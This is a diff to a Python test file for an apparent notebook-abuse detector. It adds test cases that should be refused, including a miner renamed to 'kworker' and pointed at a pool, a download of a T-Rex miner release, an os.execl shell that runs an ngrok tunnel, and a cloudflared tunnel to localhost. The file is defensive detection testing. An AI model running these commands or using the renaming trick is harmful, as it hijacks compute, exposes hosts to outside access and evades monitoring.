@@ -133,6 +133,13 @@ def test_process_signatures_can_carry_cell_examples_and_signatures_check_runs_th
 
 # ---------------------------------------------------------------- memory of earlier cells
 
+def test_a_tool_renamed_from_python_is_known_and_the_evidence_says_so():
+    found = check_all(["import shutil\nshutil.move('xmrig', 'kworker')",
+                       "import subprocess\nsubprocess.run(['./kworker', '-o', 'pool:3333'])"])
+    assert found[0] == []
+    assert found[1][0].reasons[0] == STARTS_PREFIX + "./kworker -o pool:3333, renamed from xmrig"
+
+
 def test_earlier_cells_are_remembered_per_kernel():
     engine = Engine(RULES)
     assert check("import subprocess as sp\nname = 'xm' + 'ri'", engine=engine) == []
@@ -227,6 +234,10 @@ REFUSED = [
     ("perl -e", "!perl -e 'system(\"./xmrig -o pool:3333\")'"),
     ("node -e", "!node -e \"require('child_process').execSync('cloudflared tunnel --url localhost:8888')\""),
     ("find -exec", "!find /tmp -name 'x*' -exec ngrok tcp 22 \\;"),
+    ("libtorrent through __import__", "lt = __import__('libtorrent')\ns = lt.session()\ns.listen_on(6881, 6891)"),
+    ("os.execl", "import os\nos.execl('/bin/sh', 'sh', '-c', 'ngrok tcp 22')"),
+    ("download from python", "import wget\nwget.download('https://github.com/trexminer/T-Rex/releases/download/0.26.8/t-rex-0.26.8-linux.tar.gz')"),
+    ("release file name", "!./cloudflared-linux-amd64 tunnel --url http://localhost:8888"),
     ("stratum in python", "import socket, json\ns = socket.socket()\ns.connect(('p', 3333))\ns.send(json.dumps({'method': 'mining.' + 'subscribe'}).encode())"),
 ]
 
@@ -269,6 +280,7 @@ NEAR_MISSES = [
     ("a file named like a tool", "!cat xmrig.json && ls ngrok-logs/"),
     ("a URL path with a tool's name", "!wget https://example.org/blog/why-xmrig-is-banned.html"),
     ("apt install ssh client", "!apt-get install -y openssh-client"),
+    ("downloading a dataset from python", "import urllib.request\nurllib.request.urlretrieve('https://example.org/data/xmrig-logs.csv', 'logs.csv')"),
     ("crypto prices", "import yfinance as yf\nbtc = yf.download('BTC-USD')\nbtc['Close'].plot()"),
 ]
 
